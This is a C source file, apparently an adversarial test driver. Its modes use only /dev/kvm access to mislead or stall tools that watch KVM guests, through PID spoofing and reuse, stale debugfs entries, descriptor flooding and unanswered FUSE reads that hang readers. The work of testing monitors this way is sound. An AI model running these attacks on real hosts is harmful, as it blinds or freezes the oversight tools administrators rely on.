/*
 * attack - what a user who may open /dev/kvm can do to whoever looks at the host's guests
 *
 * A mode an attack; usage() tells them.  Each says "ready" on stdout, and what else the
 * mode's comment says, once it is in place, and goes on until it is killed.  It needs no
 * rights but to open /dev/kvm.  x86 only.
 */

#define _GNU_SOURCE
#include "machine.h"
#include <errno.h>
#include <linux/fuse.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>

#define SLEEPERS 100     /* threads of spoof */
#define SPOOFED 777      /* exits that each of them makes */
#define LENT 8           /* machines a process of lend makes */
#define LENDERS 60       /* processes of lend */
#define NAMES 10000      /* threads of names */
#define STACK_SIZE 65536 /* bytes of a thread's stack, that many fit */

static int kvm;  /* the descriptor of /dev/kvm */
static int vcpu; /* that of the vCPU that most modes have */

static void ready(const char *what)
{
    printf("ready %s\n", what);
    if (fflush(stdout) != 0)
        err(1, "stdout");
}

static _Noreturn void stay(void)
{
    for (;;)
        pause();
}

/* Makes a machine whose one vCPU makes an exit each time it is run. */
static void make_guest(void)
{
    static const uint8_t code[] = {0xe6, 0x10, 0xeb, 0xfc}; /* out 0x10, al; jmp to it */
    struct kvm_run *run;
    uint8_t *ram;
    int vm = make_machine(kvm, &ram);

    memcpy(ram + CODE, code, sizeof(code));
    vcpu = make_vcpu(kvm, vm, 0, &run);
}

static void make_exits(int n)
{
    while (n-- > 0) {
        if (ioctl(vcpu, KVM_RUN, 0) < 0 && errno != EINTR)
            err(1, "KVM_RUN");
    }
}

/* Starts a thread, however often it takes. */
static pthread_t begin(void *(*function)(void *), void *arg, bool detached)
{
    pthread_attr_t attr;
    pthread_t thread;

    pthread_attr_init(&attr);
    pthread_attr_setstacksize(&attr, STACK_SIZE);
    pthread_attr_setdetachstate(
        &attr, detached ? PTHREAD_CREATE_DETACHED : PTHREAD_CREATE_JOINABLE);
    while (pthread_create(&thread, &attr, function, arg) != 0)
        usleep(1000);
    pthread_attr_destroy(&attr);
    return thread;
}

/* Forks a child that ends with this process. */
static pid_t fork_child(void)
{
    pid_t child = fork();

    if (child < 0)
        err(1, "fork");
    if (child == 0)
        prctl(PR_SET_PDEATHSIG, SIGKILL);
    return child;
}

/* empty MACHINES DESCRIPTORS: machines without a vCPU, and other descriptors, up to the limit. */
static void empty(char **args)
{
    char what[64];
    int machines = 0, others = 0;

    while (machines < atoi(args[0]) && ioctl(kvm, KVM_CREATE_VM, 0) >= 0)
        machines++;
    while (others < atoi(args[1]) && dup(0) >= 0)
        others++;
    snprintf(what, sizeof(what), "%d machines, %d other descriptors", machines, others);
    ready(what);
    stay();
}

/* numbers MACHINES: each has one vCPU, of another number; half of them go and come again. */
static void numbers(char **args)
{
    int n = atoi(args[0]), (*fds)[2] = calloc((size_t)n, sizeof(*fds));

    make_guest();
    for (bool first = true;; first = false) {
        for (int i = 0; i < n; i += first ? 1 : 2) {
            fds[i][0] = ioctl(kvm, KVM_CREATE_VM, 0);
            fds[i][1] = ioctl(fds[i][0], KVM_CREATE_VCPU, i);
            if (fds[i][1] < 0)
                err(1, "machine %d", i);
        }
        if (first)
            ready(args[0]);
        for (int i = 0; i < 10; i++) {
            make_exits(1);
            usleep(100000);
        }
        for (int i = 0; i < n; i += 2) {
            close(fds[i][1]);
            close(fds[i][0]);
        }
    }
}

static void *run_once(void *arg)
{
    make_exits(1);
    return arg;
}

/* moved PROCESSES: processes full of descriptors; and machines that come and go, whose
   descriptors have other numbers than debugfs says. */
static void moved(char **args)
{
    for (int i = 0; i < atoi(args[0]); i++) {
        if (fork_child() == 0) {
            while (dup(0) >= 0)
                ;
            stay();
        }
    }
    make_guest();
    ready("");
    for (;;) {
        int vm = ioctl(kvm, KVM_CREATE_VM, 0), other = fcntl(vm, F_DUPFD, 500);
        close(vm);
        pthread_join(begin(run_once, NULL, false), NULL);
        usleep(2000);
        close(other);
    }
}

/* churn: a vCPU that each of many threads runs once. */
static void churn(char **args)
{
    (void)args;
    make_guest();
    ready("");
    for (;;)
        pthread_join(begin(run_once, NULL, false), NULL);
}

static void *run_each_second(void *arg)
{
    char name[32];

    snprintf(name, sizeof(name), "CPU %d/KVM", (int)(intptr_t)arg);
    pthread_setname_np(pthread_self(), name);
    for (;;) {
        make_exits(1);
        sleep(1);
    }
    return arg;
}

/* names: a vCPU that many threads run now and then, each called as that of another vCPU. */
static void names(char **args)
{
    (void)args;
    make_guest();
    for (int i = 0; i < NAMES; i++)
        begin(run_each_second, (void *)(intptr_t)i, true);
    ready("");
    stay();
}

static void *run_and_begin(void *arg)
{
    make_exits(1);
    begin(run_and_begin, arg, true);
    return NULL;
}

/* chain: a vCPU that each of many threads runs once; each is the child of the one before,
   which has ended. */
static void chain(char **args)
{
    (void)args;
    make_guest();
    begin(run_and_begin, NULL, true);
    ready("");
    stay();
}

/* A thread of spoof, whose parent has ended. */
struct sleeper {
    pid_t parent;     /* the id of the thread that started it */
    atomic_int state; /* 0 asleep, 1 to make its exits */
    pthread_t thread;
};
static struct sleeper sleepers[SLEEPERS];

static void *sleep_then_exit(void *arg)
{
    struct sleeper *s = arg;

    while (s->state == 0)
        usleep(2000);
    make_exits(SPOOFED);
    return NULL;
}

static void *begin_sleeper(void *arg)
{
    struct sleeper *s = arg;

    s->parent = (pid_t)syscall(SYS_gettid);
    s->thread = begin(sleep_then_exit, s, false);
    return NULL;
}

/* The process that has the thread id; -1 if none has. */
static pid_t process_of(pid_t id)
{
    char path[64], line[256];
    int process = -1;

    snprintf(path, sizeof(path), "/proc/%d/status", (int)id);
    FILE *f = fopen(path, "re");
    while (f != NULL && process < 0 && fgets(line, sizeof(line), f) != NULL)
        sscanf(line, "Tgid: %d", &process);
    if (f != NULL)
        fclose(f);
    return process;
}

/* spoof PROCESS: ready says which thread ids the parents of its threads had.  Five of the
   threads make their exits when a thread of PROCESS has such an id; then it says "fired". */
static void spoof(char **args)
{
    pid_t victim = atoi(args[0]);
    char what[64];
    int fired = 0;

    make_guest();
    for (int i = 0; i < SLEEPERS; i++)
        pthread_join(begin(begin_sleeper, &sleepers[i], false), NULL);
    snprintf(what, sizeof(what), "%d to %d", (int)sleepers[0].parent,
        (int)sleepers[SLEEPERS - 1].parent);
    ready(what);
    while (fired < 5) {
        for (int i = 0; i < SLEEPERS && fired < 5; i++) {
            struct sleeper *s = &sleepers[i];
            if (s->state == 0 && process_of(s->parent) == victim) {
                s->state = 1;
                pthread_join(s->thread, NULL);
                fired++;
            }
        }
        usleep(2000);
    }
    printf("fired\n");
    fflush(stdout);
    stay();
}

/* reuse PROCESS: waits until it has ended; then a child of the same id has a guest. */
static void reuse(char **args)
{
    pid_t victim = atoi(args[0]), child;

    while (kill(victim, 0) == 0 || errno == EPERM)
        usleep(1000);
    while ((child = fork_child()) != victim) {
        if (child == 0 && getpid() == victim)
            break;
        if (child == 0)
            _exit(0);
        waitpid(child, NULL, 0);
    }
    if (child != 0)
        stay();
    make_guest();
    ready("");
    for (;;) {
        make_exits(100);
        usleep(100000);
    }
}

/* Sends the descriptors on socket, or takes as many from it. */
static void pass(int socket, int *fds, bool give)
{
    union {
        struct cmsghdr header; /* for its alignment */
        char room[CMSG_SPACE(LENT * sizeof(int))];
    } control = {.room = {0}};
    char byte = 0;
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data,
        .msg_iovlen = 1,
        .msg_control = &control,
        .msg_controllen = sizeof(control)};

    if (give) {
        control.header.cmsg_level = SOL_SOCKET;
        control.header.cmsg_type = SCM_RIGHTS;
        control.header.cmsg_len = CMSG_LEN(LENT * sizeof(int));
        memcpy(CMSG_DATA(&control.header), fds, LENT * sizeof(int));
    }
    if ((give ? sendmsg(socket, &message, 0) : recvmsg(socket, &message, 0)) < 0)
        err(1, "descriptors");
}

/* Makes machines with the lowest descriptors there are, and gives them away on socket. */
static _Noreturn void lend_machines(int socket)
{
    int fds[LENT];

    dup2(socket, 100);
    dup2(kvm, 101);
    for (int i = 3; i < 100; i++)
        close(i);
    for (int i = 0; i < LENT; i++) {
        fds[i] = ioctl(101, KVM_CREATE_VM, 0);
        if (fds[i] < 0)
            err(1, "KVM_CREATE_VM");
    }
    for (int i = 0; i < LENT; i++) {
        if (ioctl(fds[i], KVM_CREATE_VCPU, SPOOFED) < 0)
            err(1, "KVM_CREATE_VCPU");
    }
    pass(100, fds, true);
    _exit(0);
}

/* lend: machines of processes that have ended, which debugfs still has under these processes'
   ids; ready says which ids. */
static void lend(char **args)
{
    pid_t children[LENDERS];
    int sockets[2], fds[LENT];
    char what[64];

    (void)args;
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sockets) < 0)
        err(1, "socketpair");
    for (int i = 0; i < LENDERS; i++) {
        children[i] = fork_child();
        if (children[i] == 0)
            lend_machines(sockets[0]);
        pass(sockets[1], fds, false);
        waitpid(children[i], NULL, 0);
    }
    snprintf(what, sizeof(what), "%d to %d", (int)children[0], (int)children[LENDERS - 1]);
    ready(what);
    stay();
}

static void reply(int fuse, const struct fuse_in_header *to, int error, void *body, size_t size)
{
    struct fuse_out_header header = {
        .len = (uint32_t)(sizeof(header) + size), .error = error, .unique = to->unique};
    struct iovec parts[] = {{&header, sizeof(header)}, {body, size}};

    if (writev(fuse, parts, 2) < 0)
        err(1, "the file system's answer");
}

/*
 * Serves a file system with one file.  The first two reads fail and no other one is ever
 * answered: where a page fault tries a third time, the kernel does not give up the lock of
 * the process's memory meanwhile.  That process cannot say when it is so; this one can.  If
 * flushed is not -1, no request to flush a file is answered, and each writes a byte there.
 */
static _Noreturn void serve(int fuse, int flushed)
{
    static union {
        struct fuse_in_header header;
        char room[1 << 17];
    } request;
    int reads = 0;

    while (read(fuse, &request, sizeof(request)) > 0 || errno == EINTR) {
        bool root = request.header.nodeid == FUSE_ROOT_ID;
        struct fuse_attr file = {.ino = 2, .size = 4096, .mode = S_IFREG | 0644, .nlink = 1};
        struct fuse_attr dir = {.ino = FUSE_ROOT_ID, .mode = S_IFDIR | 0755, .nlink = 1};
        struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION,
            .minor = 31,
            .max_readahead = 4096,
            .max_write = 4096,
            .max_background = 16,
            .congestion_threshold = 12};
        struct fuse_entry_out entry = {
            .nodeid = 2, .entry_valid = 1000, .attr_valid = 1000, .attr = file};
        struct fuse_attr_out attr = {.attr_valid = 1000, .attr = root ? dir : file};
        struct fuse_open_out open = {.fh = 1};
        switch (request.header.opcode) {
        case FUSE_INIT: reply(fuse, &request.header, 0, &init, sizeof(init)); break;
        case FUSE_LOOKUP: reply(fuse, &request.header, 0, &entry, sizeof(entry)); break;
        case FUSE_GETATTR: reply(fuse, &request.header, 0, &attr, sizeof(attr)); break;
        case FUSE_OPEN: reply(fuse, &request.header, 0, &open, sizeof(open)); break;
        case FUSE_READ:
            if (++reads <= 2) {
                reply(fuse, &request.header, -EIO, NULL, 0);
            } else {
                usleep(600000);
                ready("");
            }
            break;
        case FUSE_FLUSH:
            if (flushed < 0)
                reply(fuse, &request.header, -ENOSYS, NULL, 0);
            else if (write(flushed, "", 1) != 1)
                err(1, "pipe");
            break;
        case FUSE_FORGET:
        case FUSE_INTERRUPT: break;
        default: reply(fuse, &request.header, -ENOSYS, NULL, 0);
        }
    }
    _exit(1);
}

static void *touch(void *arg)
{
    volatile char *page = arg;

    (void)*page;
    return NULL;
}

/* Waits for the lock of the memory, once touch() has it, so that nobody else gets it. */
static _Noreturn void *map(void *arg)
{
    (void)arg;
    for (;;) {
        usleep(100000);
        mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    }
}

/* hang FUSE DIRECTORY: a guest whose memory has a page of a file system that does not answer,
   mounted there and served by the descriptor FUSE: who reads its command line hangs. */
static void hang(char **args)
{
    char path[4096];
    int fuse = atoi(args[0]);

    if (fork_child() == 0)
        serve(fuse, -1);
    close(fuse);
    make_guest();
    snprintf(path, sizeof(path), "%s/file", args[1]);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    void *page = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
    if (page == MAP_FAILED)
        err(1, "%s", path);
    begin(map, NULL, true);
    begin(touch, page, true);
    stay();
}

/*
 * jam PROCESSES KVM FUSE DIRECTORY: processes that hang in execve(), where the kernel closes a file
 * of a file system that does not answer, mounted on DIRECTORY and served by the descriptor FUSE.
 * Who looks at one hangs, too.  If KVM is not 0, each has a guest.
 */
static void jam(char **args)
{
    char path[4096], what[64];
    int fuse = atoi(args[2]), n = atoi(args[0]), ends[2];
    char byte;

    if (pipe(ends) != 0)
        err(1, "pipe");
    if (fork_child() == 0)
        serve(fuse, ends[1]);
    close(fuse);
    snprintf(path, sizeof(path), "%s/file", args[3]);
    for (int i = 0; i < n; i++) {
        if (fork_child() != 0)
            continue;
        if (atoi(args[1]) != 0)
            make_guest();
        else
            close(kvm);
        if (open(path, O_RDONLY | O_CLOEXEC) < 0)
            err(1, "%s", path);
        fcntl(vcpu, F_SETFD, 0);
        execl("/bin/sleep", "sleep", "1000", NULL);
        err(1, "/bin/sleep");
    }
    for (int i = 0; i < n; i++) {
        if (read(ends[0], &byte, 1) != 1)
            err(1, "pipe");
    }
    snprintf(what, sizeof(what), "%d processes", n);
    ready(what);
    stay();
}

/* Starts a process that shares this one's descriptors, and ends with it. */
static void share_files(void)
{
    long child = syscall(SYS_clone, CLONE_FILES | SIGCHLD, NULL, NULL, NULL, NULL);

    if (child < 0)
        err(1, "clone");
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        stay();
    }
}

/* table PROCESSES DESCRIPTORS: processes that share one table of descriptors. */
static void table(char **args)
{
    int others = 0;

    while (others < atoi(args[1]) && dup(0) >= 0)
        others++;
    for (int i = 0; i < atoi(args[0]); i++)
        share_files();
    ready("");
    stay();
}

/*
 * twins PROCESSES DESCRIPTORS: processes that each have two machines, one of which has no directory
 * in debugfs, as both were made with the same descriptor; and other descriptors.
 */
static void twins(char **args)
{
    int n = atoi(args[0]), others = atoi(args[1]), ends[2];
    char byte = 0;

    if (pipe(ends) != 0)
        err(1, "pipe");
    for (int i = 0; i < n; i++) {
        if (fork_child() != 0)
            continue;
        int first = ioctl(kvm, KVM_CREATE_VM, 0);
        dup2(first, 200);
        close(first);
        if (ioctl(ioctl(kvm, KVM_CREATE_VM, 0), KVM_CREATE_VCPU, 0) < 0)
            err(1, "KVM_CREATE_VCPU");
        for (int j = 0; j < others; j++)
            dup(0);
        if (write(ends[1], &byte, 1) != 1)
            err(1, "pipe");
        stay();
    }
    for (int i = 0; i < n; i++) {
        if (read(ends[0], &byte, 1) != 1)
            err(1, "pipe");
    }
    ready("");
    stay();
}

/*
 * held PROCESSES VCPUS: a machine whose descriptors many processes have: a third shares the table
 * of descriptors, a third was forked, and a third was forked and has a machine of its own.
 */
static void held(char **args)
{
    int vm = ioctl(kvm, KVM_CREATE_VM, 0), n = atoi(args[0]), ends[2];
    char byte = 0;

    for (int i = 0; i < atoi(args[1]); i++) {
        if (ioctl(vm, KVM_CREATE_VCPU, i) < 0)
            break;
    }
    if (pipe(ends) != 0)
        err(1, "pipe");
    for (int i = 0; i < n; i++) {
        if (i % 3 == 0) {
            share_files();
        } else if (fork_child() == 0) {
            if (i % 3 == 1)
                make_guest();
            if (write(ends[1], &byte, 1) != 1)
                err(1, "pipe");
            stay();
        }
    }
    for (int i = 0; i < n - (n + 2) / 3; i++) {
        if (read(ends[0], &byte, 1) != 1)
            err(1, "pipe");
    }
    ready("");
    stay();
}

static const struct {
    const char *name;        /* of the mode */
    void (*attack)(char **); /* does it, with the arguments; never returns */
    int nargs;               /* how many it takes */
    const char *args;        /* their names */
} modes[] = {
    {"empty", empty, 2, " machines descriptors"},
    {"numbers", numbers, 1, " machines"},
    {"moved", moved, 1, " processes"},
    {"churn", churn, 0, ""},
    {"names", names, 0, ""},
    {"chain", chain, 0, ""},
    {"spoof", spoof, 1, " process"},
    {"reuse", reuse, 1, " process"},
    {"lend", lend, 0, ""},
    {"hang", hang, 2, " fuse directory"},
    {"jam", jam, 4, " processes kvm fuse directory"},
    {"table", table, 2, " processes descriptors"},
    {"twins", twins, 2, " processes descriptors"},
    {"held", held, 2, " processes vcpus"},
};
#define NMODES (sizeof(modes) / sizeof(modes[0]))

static void usage(void)
{
    for (size_t i = 0; i < NMODES; i++)
        fprintf(
            stderr, "%s attack %s%s\n", i == 0 ? "usage:" : "      ", modes[i].name, modes[i].args);
    exit(2);
}

int main(int argc, char **argv)
{
    struct rlimit limit;
    size_t i = 0;

    while (argc < 2 || strcmp(argv[1], modes[i].name) != 0) {
        if (argc < 2 || ++i == NMODES)
            usage();
    }
    if (argc != 2 + modes[i].nargs)
        usage();
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    kvm = open_kvm();
    modes[i].attack(argv + 2);
}
